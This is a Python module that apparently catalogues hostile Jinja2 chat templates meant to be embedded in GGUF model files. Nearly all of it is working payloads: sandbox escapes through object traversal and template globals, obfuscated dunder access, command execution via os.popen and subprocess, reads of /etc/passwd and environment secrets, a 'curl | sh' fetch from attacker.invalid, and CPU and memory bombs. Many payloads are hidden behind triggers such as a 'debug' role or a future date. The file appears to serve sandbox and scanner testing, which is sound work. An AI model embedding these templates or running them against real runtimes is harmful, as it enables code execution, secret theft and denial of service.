"""Hostile Jinja2 chat templates: what an attacker puts in a GGUF's `tokenizer.chat_template`.

A GGUF carries its chat template as text, and every runtime that honours it renders it with
Jinja2 (llama-cpp-python, transformers, vLLM, SGLang) or a Jinja clone (llama.cpp's minja).
Rendered in a plain `jinja2.Environment`, a template is Python: CVE-2024-34359 ("Llama Drama",
llama-cpp-python < 0.2.72) ran any command a model file's template asked for, and the same
mistake was reported again in SGLang (CVE-2026-5760). Rendered in jinja2's sandbox, the escapes
fail but a template can still spend unbounded time or memory.

Each payload here is one such template, in one of six families:

* object-traversal: walking the Python object graph from a literal or a template variable
  (`''.__class__.__mro__[1].__subclasses__()`, then `catch_warnings` or `os._wrap_close`) to
  builtins or `os`; the CVE-2024-34359 proof of concept is of this kind.
* python-globals: reaching a module's `__globals__` through a callable the template can see:
  jinja's own globals (`cycler`, `joiner`, `lipsum`, `namespace`, `range`, `self`, macros,
  undefined names, `loop`), the runtimes' helpers (`raise_exception`), Flask's `request` and
  `config` from the web SSTI literature.
* obfuscation: the same walks with the dunder names spelled so that a text filter looking for
  `__class__` or `__globals__` misses them (escapes, concatenation, filters, character picking,
  keyword names, format strings, and the stored `str.format` references behind jinja's own
  sandbox escapes CVE-2024-56326 and CVE-2025-27516).
* modules-and-processes: what the escape is for: `os.popen`, `os.system`, `subprocess`,
  `__import__`, `eval`, `exec`, `open`, the environment's secrets.
* time-bomb: templates whose rendering does not end in any useful time. jinja's sandbox caps
  `range()` at 100000 items (`jinja2.sandbox.MAX_RANGE`), so the loops are nested, and recursion
  is exponential in breadth rather than deep.
* memory-bomb: templates whose rendering allocates gigabytes or more: string and list
  repetition, doubling through a `namespace` (a plain `{% set %}` in a loop is loop-scoped),
  filters given a huge width.

The families come from the public server-side template injection literature (the Jinja2 sections
of the usual SSTI cheat sheets and their filter-bypass tricks), from the proofs of concept
published with the CVEs above, and from jinja2's sandbox documentation and source (what it
blocks, what it caps, what it leaves alone).

Most payloads sit inside an otherwise ordinary ChatML template; some run on every render, some
only behind a condition an ordinary conversation never meets (a long chat, a 'debug' role, a
trigger string in a message, many tools, a date), some inside macros; one, the CVE's proof of concept,
is a template of its own. Every one parses with jinja2 3.1.

Handle with care. Render these only in `jinja2.sandbox.ImmutableSandboxedEnvironment`, and do not
even compile the time and memory bombs in the process that matters: jinja's code generator folds
constant expressions while compiling, whether or not the branch holding them is ever taken, so
`{{ 'A' * 10**9 }}` allocates its gigabyte in `Environment.from_string`, sandbox or not.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str  # short id, unique, snake_case
    family: str  # one of FAMILIES
    source: str  # the whole template text


FAMILIES = ("object-traversal", "python-globals", "obfuscation", "modules-and-processes", "time-bomb", "memory-bomb")

_TURN = "<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n"
_GENERATION_PROMPT = "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"

# Conditions an ordinary conversation (a system prompt, a few user and assistant turns) never meets.
_LONG_CHAT = "messages|length > 50"
_DEBUG_ROLE = "message['role'] == 'debug'"
_UNKNOWN_ROLE = "message['role'] not in ['system', 'user', 'assistant', 'tool']"
_TRIGGER = "'<!--unlock-->' in message['content']"
_MANY_TOOLS = "tools is defined and tools|length > 3"
_FUTURE = "strftime_now is defined and strftime_now('%Y')|int >= 2031"


def _when(condition: str, fragment: str) -> str:
    return "{% if " + condition + " %}" + fragment + "{% endif %}"


def _chatml(head: str = "", body: str = "", tail: str = "") -> str:
    """An ordinary ChatML template with `head` before the message loop, `body` in it (before each turn), `tail` after it."""
    return head + "{% for message in messages %}" + body + _TURN + "{% endfor %}" + _GENERATION_PROMPT + tail


def _macro_chatml(extra: str) -> str:
    """An ordinary ChatML template whose turns are written by a macro `render`, with `extra` at the macro's start."""
    return (
        "{% macro render(message) %}"
        + extra
        + _TURN
        + "{% endmacro %}"
        + "{% for message in messages %}{{ render(message) }}{% endfor %}"
        + _GENERATION_PROMPT
    )


_STRING_DOUBLING_CHAIN = "{% set s = 'x' %}" + "{% set s = s ~ s %}" * 40 + "{{ s|length }}"

_OBJECT_TRAVERSAL = (
    Payload("str_mro_subclasses", "object-traversal", _chatml(head="{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    Payload(
        "catch_warnings_import_os",
        "object-traversal",
        _chatml(
            head="{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
            "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"
        ),
    ),
    Payload(
        # The shape of the proof of concept published with CVE-2024-34359: the whole template.
        "cve_2024_34359_warning_walk",
        "object-traversal",
        """{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}"""
        """{{ x()._module.__builtins__['__import__']('os').popen("touch /tmp/dfqs-owned") }}{% endif %}{% endfor %}""",
    ),
    Payload(
        "list_class_base_subclasses",
        "object-traversal",
        _chatml(tail=_when(_LONG_CHAT, "{{ [].__class__.__base__.__subclasses__() }}")),
    ),
    Payload(
        "tuple_class_bases_subclasses",
        "object-traversal",
        _chatml(body=_when(_DEBUG_ROLE, "{{ ().__class__.__bases__[0].__subclasses__() }}")),
    ),
    Payload(
        "dict_class_mro_subclasses",
        "object-traversal",
        _macro_chatml("{{ {}.__class__.__mro__[-1].__subclasses__()|length }}"),
    ),
    Payload("messages_class_walk", "object-traversal", _chatml(head="{{ messages.__class__.__base__.__subclasses__() }}")),
    Payload("message_init_globals", "object-traversal", _chatml(body="{{ message.__init__.__globals__ }}")),
    Payload(
        # os._wrap_close's index in object.__subclasses__() depends on the Python build; attackers guess it.
        "os_wrap_close_by_index",
        "object-traversal",
        _chatml(tail="{{ ''.__class__.__mro__[1].__subclasses__()[140].__init__.__globals__['popen']('id').read() }}"),
    ),
    Payload(
        "content_class_walk",
        "object-traversal",
        _chatml(body=_when(_TRIGGER, "{{ message['content'].__class__.__mro__[1].__subclasses__() }}")),
    ),
    Payload(
        "int_class_walk",
        "object-traversal",
        _macro_chatml(_when(_DEBUG_ROLE, "{{ (1).__class__.__base__.__subclasses__() }}")),
    ),
    Payload(
        "bool_flag_class_walk",
        "object-traversal",
        _chatml(tail=_when(_MANY_TOOLS, "{{ add_generation_prompt.__class__.__mro__[-1].__subclasses__() }}")),
    ),
)

_PYTHON_GLOBALS = (
    Payload("cycler_globals_os_popen", "python-globals", _chatml(head="{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
    Payload(
        "joiner_globals_os_popen",
        "python-globals",
        _chatml(body=_when(_DEBUG_ROLE, "{{ joiner.__init__.__globals__.os.popen('id').read() }}")),
    ),
    Payload("lipsum_globals_os_popen", "python-globals", _chatml(tail="{{ lipsum.__globals__['os'].popen('id').read() }}")),
    Payload(
        "namespace_init_globals_import",
        "python-globals",
        _macro_chatml("{{ namespace.__init__.__globals__['__builtins__']['__import__']('os').popen('id').read() }}"),
    ),
    Payload(
        "self_template_reference_context",
        "python-globals",
        _chatml(head="{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ),
    Payload(
        "self_init_globals_import",
        "python-globals",
        _chatml(tail=_when(_LONG_CHAT, "{{ self.__init__.__globals__['__builtins__']['__import__']('os').popen('id').read() }}")),
    ),
    Payload(
        "request_application_globals",
        "python-globals",
        _chatml(tail="{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ),
    Payload(
        "config_class_init_globals",
        "python-globals",
        _chatml(body=_when(_TRIGGER, "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}")),
    ),
    Payload("range_self_builtins", "python-globals", _chatml(head="{{ range.__self__.__import__('os').popen('id').read() }}")),
    Payload(
        "range_globals_builtins",
        "python-globals",
        _chatml(body=_when(_DEBUG_ROLE, "{{ range.__globals__['__builtins__']['__import__']('os').popen('id').read() }}")),
    ),
    Payload(
        # The role check every Hugging Face template has, with the runtimes' raise_exception helper as the way in.
        "raise_exception_globals",
        "python-globals",
        _chatml(
            body=_when(
                _UNKNOWN_ROLE,
                "{{ raise_exception.__globals__['__builtins__']['__import__']('os').popen('id').read() }}",
            ),
        ),
    ),
    Payload(
        "lipsum_builtins_eval",
        "python-globals",
        _chatml(tail=_when(_MANY_TOOLS, """{{ lipsum.__builtins__['eval']("__import__('os').popen('id').read()") }}""")),
    ),
    Payload(
        "macro_func_environment_globals",
        "python-globals",
        _chatml(
            head="{% macro noop() %}{% endmacro %}"
            "{{ noop._func.__globals__['environment'].__class__.__init__.__globals__['os'].popen('id').read() }}"
        ),
    ),
    Payload(
        "undefined_class_globals",
        "python-globals",
        _chatml(head="{{ no_such_name.__class__.__init__.__globals__['sys'].modules['os'].popen('id').read() }}"),
    ),
    Payload(
        "loop_class_init_globals",
        "python-globals",
        _chatml(body=_when("loop.last", "{{ loop.__class__.__init__.__globals__['sys'].modules['os'].popen('id').read() }}")),
    ),
)

_OBFUSCATION = (
    Payload(
        "attr_hex_escapes",
        "obfuscation",
        _chatml(
            head=r"{{ ''|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fmro\x5f\x5f')|last|attr('\x5f\x5fsubclasses\x5f\x5f')() }}",
        ),
    ),
    Payload(
        "attr_unicode_escapes",
        "obfuscation",
        _chatml(
            tail=r"{{ lipsum|attr('\u005f\u005fglobals\u005f\u005f')|attr('\u005f\u005fgetitem\u005f\u005f')('os')"
            r"|attr('popen')('id')|attr('read')() }}"
        ),
    ),
    Payload(
        "attr_octal_escapes",
        "obfuscation",
        _chatml(
            body=_when(
                _DEBUG_ROLE,
                r"{{ cycler|attr('\137\137init\137\137')|attr('\137\137globals\137\137')|attr('\137\137getitem\137\137')('os')"
                r"|attr('popen')('id')|attr('read')() }}",
            ),
        ),
    ),
    Payload(
        "tilde_concatenation",
        "obfuscation",
        _chatml(head="{{ ()|attr('__cla' ~ 'ss__')|attr('__ba' ~ 'se__')|attr('__subcla' ~ 'sses__')() }}"),
    ),
    Payload(
        "underscore_multiplication",
        "obfuscation",
        _chatml(
            tail=_when(
                _LONG_CHAT,
                "{{ ''|attr('_'*2 ~ 'class' ~ '_'*2)|attr('_'*2 ~ 'mro' ~ '_'*2)|last|attr('_'*2 ~ 'subclasses' ~ '_'*2)() }}",
            ),
        ),
    ),
    Payload(
        "percent_c_format_filter",
        "obfuscation",
        _chatml(
            head="{% set u = ('%c'|format(95))*2 %}"
            "{{ lipsum|attr(u ~ 'globals' ~ u)|attr(u ~ 'getitem' ~ u)('os')|attr('popen')('id')|attr('read')() }}"
        ),
    ),
    Payload(
        "str_format_method_names",
        "obfuscation",
        _chatml(
            body=_when(
                _TRIGGER,
                "{{ (joiner|attr('{0}{0}init{0}{0}'.format('_'))|attr('{0}{0}globals{0}{0}'.format('_')))['os'].system('id') }}",
            ),
        ),
    ),
    Payload(
        "join_filter_names",
        "obfuscation",
        _macro_chatml(
            "{% set g = namespace|attr(['_', '_', 'init', '_', '_']|join)|attr(['_', '_', 'globals', '_', '_']|join) %}"
            "{{ g['os'].popen('id').read() }}",
        ),
    ),
    Payload(
        "reverse_filter_name",
        "obfuscation",
        _chatml(head="{{ (lipsum|attr('__slabolg__'|reverse))['os'].popen('id').read() }}"),
    ),
    Payload(
        "replace_filter_names",
        "obfuscation",
        _chatml(
            tail="{{ (cycler|attr('XXinitXX'|replace('X', '_'))|attr('XXglobalsXX'|replace('X', '_')))['os'].system('id') }}",
        ),
    ),
    Payload(
        "set_variable_subscript_key",
        "obfuscation",
        _chatml(head="{% set c = '__cla' %}{% set m = '__mr' %}{{ ''[c ~ 'ss__'][m ~ 'o__'][1] }}"),
    ),
    Payload(
        "attr_name_in_variable",
        "obfuscation",
        _chatml(body=_when(_DEBUG_ROLE, "{% set a = '__globals__' %}{{ (lipsum|attr(a))['os'].popen('id').read() }}")),
    ),
    Payload(
        "dict_keyword_names",
        "obfuscation",
        _chatml(
            head="{% set g = dict(__globals__=1)|list|first %}{% set b = dict(__builtins__=1)|list|first %}"
            "{% set i = dict(__import__=1)|list|first %}{{ (lipsum|attr(g))[b][i]('os').popen('id').read() }}",
        ),
    ),
    Payload(
        # str(()|select) is '<generator object select_or_reject at 0x...>': character 24 is '_'.
        "select_string_char_pick",
        "obfuscation",
        _chatml(
            head="{% set u = (()|select|string)[24] %}"
            "{{ ''|attr(u*2 ~ 'class' ~ u*2)|attr(u*2 ~ 'base' ~ u*2)|attr(u*2 ~ 'subclasses' ~ u*2)() }}",
        ),
    ),
    Payload(
        # str(lipsum) is '<function generate_lorem_ipsum at 0x...>': character 18 is '_'.
        "lipsum_string_char_pick",
        "obfuscation",
        _chatml(
            tail=_when(
                _LONG_CHAT,
                "{% set u = (lipsum|string)[18] %}{{ (lipsum|attr(u*2 ~ 'globals' ~ u*2))['os'].popen('id').read() }}",
            ),
        ),
    ),
    Payload(
        "request_attr_application",
        "obfuscation",
        _chatml(
            tail=r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
            r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')"
            r"|attr('popen')('id')|attr('read')() }}"
        ),
    ),
    Payload(
        "subscript_globals",
        "obfuscation",
        _chatml(head="{{ lipsum['__globals__']['os']['popen']('id')['read']() }}"),
    ),
    Payload(
        "format_string_attribute",
        "obfuscation",
        _chatml(head="{{ '{0.__class__.__mro__}'.format(messages) }}"),
    ),
    Payload(
        "format_string_globals",
        "obfuscation",
        _chatml(body=_when(_TRIGGER, "{{ '{0.__init__.__globals__[os]}'.format(cycler) }}")),
    ),
    Payload(
        # CVE-2024-56326 (jinja2 < 3.1.5): a stored reference to str.format, called later.
        "stored_format_method",
        "obfuscation",
        _chatml(head="{% set fmt = '{0.__init__.__globals__[os].environ}'.format %}{{ fmt(cycler) }}"),
    ),
    Payload(
        # CVE-2025-27516 (jinja2 < 3.1.6): str.format fetched through the attr filter.
        "attr_filter_format_method",
        "obfuscation",
        _chatml(tail="{{ '{0.__init__.__globals__[os].environ}'|attr('format')(joiner) }}"),
    ),
    Payload(
        "map_attribute_dunder",
        "obfuscation",
        _chatml(
            body=_when(
                "loop.first",
                "{% set c = messages|map(attribute='__class__')|first %}{{ (c.mro()|last)|attr('_' ~ '_subclasses_' ~ '_')() }}",
            ),
        ),
    ),
    Payload(
        "percent_operator_chars",
        "obfuscation",
        _macro_chatml(
            _when(
                _DEBUG_ROLE,
                "{{ ''|attr('%c%cclass%c%c' % (95, 95, 95, 95))|attr('%c%cbase%c%c' % (95, 95, 95, 95))"
                "|attr('%c%csubclasses%c%c' % (95, 95, 95, 95))() }}",
            ),
        ),
    ),
    Payload(
        "lower_filter_name",
        "obfuscation",
        _chatml(tail="{{ (lipsum|attr('__GLOBALS__'|lower))['OS'|lower].popen('id').read() }}"),
    ),
    Payload(
        "slice_extracted_name",
        "obfuscation",
        _chatml(head="{{ (lipsum|attr('x__globals__x'[1:-1]))['xosx'[1:-1]].popen('id').read() }}"),
    ),
)

_MODULES_AND_PROCESSES = (
    Payload(
        # Silent: a {% set %} writes nothing, so the rendered prompt looks ordinary.
        "os_popen_silent_set",
        "modules-and-processes",
        _chatml(head="{% set out = cycler.__init__.__globals__.os.popen('curl -s http://attacker.invalid/p | sh').read() %}"),
    ),
    Payload(
        "os_system",
        "modules-and-processes",
        _chatml(body=_when(_TRIGGER, "{{ lipsum.__globals__.os.system('id') }}")),
    ),
    Payload(
        "subprocess_check_output",
        "modules-and-processes",
        _chatml(tail="{{ lipsum.__globals__['__builtins__']['__import__']('subprocess').check_output(['id']) }}"),
    ),
    Payload(
        "subprocess_popen_subclass",
        "modules-and-processes",
        _chatml(
            head="{% set popen = ().__class__.__base__.__subclasses__()|selectattr('__name__', 'equalto', 'Popen')|first %}"
            "{{ popen(['id'], stdout=-1).communicate() }}"
        ),
    ),
    Payload(
        "dunder_import_os",
        "modules-and-processes",
        _chatml(tail=_when(_LONG_CHAT, "{{ joiner.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")),
    ),
    Payload("bare_dunder_import", "modules-and-processes", _chatml(head="{{ __import__('os').popen('id').read() }}")),
    Payload(
        "builtins_eval_popen",
        "modules-and-processes",
        _chatml(head="""{{ cycler.__init__.__globals__.__builtins__.eval("__import__('os').popen('id').read()") }}"""),
    ),
    Payload(
        "builtins_eval_arithmetic",
        "modules-and-processes",
        _chatml(head="{% set builtins = lipsum.__globals__.__builtins__ %}{{ builtins.eval('1+1') }}"),
    ),
    Payload("bare_eval_probe", "modules-and-processes", _chatml(head="{{ eval('1+1') }}")),
    Payload(
        "builtins_exec",
        "modules-and-processes",
        _chatml(
            body=_when(
                _DEBUG_ROLE,
                """{{ namespace.__init__.__globals__.__builtins__.exec("import os; os.system('id')") }}""",
            ),
        ),
    ),
    Payload(
        "open_etc_passwd",
        "modules-and-processes",
        _chatml(tail="{{ lipsum.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ),
    Payload(
        "open_write_file",
        "modules-and-processes",
        _macro_chatml("{{ cycler.__init__.__globals__.__builtins__.open('/tmp/dfqs-owned', 'w').write('owned') }}"),
    ),
    Payload("os_environ_exfiltration", "modules-and-processes", _chatml(tail="{{ lipsum.__globals__.os.environ }}")),
    Payload(
        "importlib_import_module",
        "modules-and-processes",
        _chatml(
            head=_when(
                _LONG_CHAT,
                "{{ lipsum.__globals__.__builtins__.__import__('importlib').import_module('subprocess').getoutput('id') }}",
            )
        ),
    ),
    Payload(
        "sys_modules_os",
        "modules-and-processes",
        _chatml(
            tail=_when(
                _MANY_TOOLS,
                "{{ cycler.__init__.__globals__.__builtins__.__import__('sys').modules['os'].popen('id').read() }}",
            ),
        ),
    ),
    Payload(
        "base64_encoded_command",
        "modules-and-processes",
        _chatml(
            tail="{% set g = lipsum.__globals__ %}{% set cmd = g.__builtins__.__import__('base64').b64decode('aWQ=') %}"
            "{{ g.os.popen(cmd.decode()).read() }}",
        ),
    ),
)

_TIME_BOMBS = (
    Payload(
        "nested_range_loops",
        "time-bomb",
        _chatml(head="{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}"),
    ),
    Payload(
        "nested_range_loops_silent",
        "time-bomb",
        _chatml(tail=_when(_LONG_CHAT, "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}")),
    ),
    Payload(
        "triple_nested_loops",
        "time-bomb",
        _chatml(
            body=_when(
                _DEBUG_ROLE,
                "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}"
                "{% if a + b + c < 0 %}{{ c }}{% endif %}{% endfor %}{% endfor %}{% endfor %}",
            )
        ),
    ),
    Payload(
        # 2**64 calls, never deeper than 64 frames: no RecursionError to stop it.
        "exponential_macro_recursion",
        "time-bomb",
        _chatml(head="{% macro f(n) %}{% if n > 0 %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(64) }}"),
    ),
    Payload(
        "recursive_for_loop",
        "time-bomb",
        _chatml(tail="{% for n in [48] recursive %}{% if n > 0 %}{{ loop([n - 1, n - 1]) }}{% endif %}{% endfor %}"),
    ),
    Payload(
        "huge_string_iteration",
        "time-bomb",
        _chatml(head="{% for c in 'ab' * 50000000 %}{% if c == 'z' %}{% break %}{% endif %}{% endfor %}"),
    ),
    Payload(
        # jinja's ** is left-associative, so the exponent needs its parentheses; folded at compile time.
        "bignum_power",
        "time-bomb",
        _chatml(tail=_when(_MANY_TOOLS, "{{ 9 ** (9 ** 9) }}")),
    ),
    Payload(
        "sort_in_loop",
        "time-bomb",
        _chatml(
            body=_when(
                _TRIGGER,
                "{% for a in range(100000) %}{{ range(100000)|list|sort(reverse=true)|first }}{% endfor %}",
            ),
        ),
    ),
    Payload(
        "join_in_loop",
        "time-bomb",
        _chatml(head="{% for a in range(100000) %}{% set s = range(100000)|join(',') %}{% endfor %}"),
    ),
    Payload(
        # A date-triggered logic bomb: strftime_now is the helper transformers gives templates.
        "macro_loop_recursion_dated",
        "time-bomb",
        _chatml(
            head="{% macro spin(depth) %}{% for i in range(100000) %}{% if depth > 0 %}{{ spin(depth - 1) }}{% endif %}"
            "{% endfor %}{% endmacro %}",
            tail=_when(_FUTURE, "{{ spin(3) }}"),
        ),
    ),
)

_MEMORY_BOMBS = (
    Payload("string_repeat_billion", "memory-bomb", _chatml(head="{{ 'A' * 10**9 }}")),
    Payload("string_repeat_product", "memory-bomb", _chatml(tail="{{ ('A' * 100000) * 100000 }}")),
    Payload("list_repeat_billion", "memory-bomb", _chatml(head="{{ ([0] * 10**9)|length }}")),
    Payload(
        "namespace_string_doubling",
        "memory-bomb",
        _chatml(
            head="{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
            tail="{{ ns.s|length }}",
        ),
    ),
    Payload("set_chain_string_doubling", "memory-bomb", _chatml(head=_STRING_DOUBLING_CHAIN)),
    Payload(
        "namespace_list_doubling",
        "memory-bomb",
        _chatml(
            tail=_when(
                _LONG_CHAT,
                "{% set ns = namespace(items=[0]) %}{% for i in range(40) %}{% set ns.items = ns.items + ns.items %}{% endfor %}"
                "{{ ns.items|length }}",
            )
        ),
    ),
    Payload("center_filter_width", "memory-bomb", _chatml(body=_when(_DEBUG_ROLE, "{{ message['content']|center(10**10) }}"))),
    Payload("format_spec_width", "memory-bomb", _chatml(tail="{{ '{:>10000000000}'.format('') }}")),
    Payload("percent_format_width", "memory-bomb", _chatml(head=_when(_MANY_TOOLS, "{{ '%1000000000s'|format('') }}"))),
    Payload("replace_amplification", "memory-bomb", _chatml(tail="{{ ('x' * 100000)|replace('x', 'x' * 100000) }}")),
    Payload("join_separator_amplification", "memory-bomb", _macro_chatml("{{ range(100000)|join('x' * 100000) }}")),
    Payload(
        "exponential_macro_output",
        "memory-bomb",
        _chatml(
            head="{% macro d(n) %}{% if n > 0 %}{{ d(n - 1) }}{{ d(n - 1) }}{% else %}AAAA{% endif %}{% endmacro %}{{ d(40) }}",
        ),
    ),
    Payload(
        "list_of_ranges_product",
        "memory-bomb",
        _chatml(body=_when(_TRIGGER, "{{ (range(100000)|list * 100000)|length }}")),
    ),
    Payload(
        "indent_width",
        "memory-bomb",
        _chatml(tail=_when(_LONG_CHAT, "{{ messages[0]['content']|indent(10**9, first=true) }}")),
    ),
    Payload(
        # Never rendered in an ordinary conversation, yet folded, so allocated, when the template is compiled.
        "gated_string_repeat_trillion",
        "memory-bomb",
        _chatml(body=_when(_DEBUG_ROLE, "{{ 'A' * 10**12 }}")),
    ),
)

PAYLOADS: tuple[Payload, ...] = (
    *_OBJECT_TRAVERSAL,
    *_PYTHON_GLOBALS,
    *_OBFUSCATION,
    *_MODULES_AND_PROCESSES,
    *_TIME_BOMBS,
    *_MEMORY_BOMBS,
)
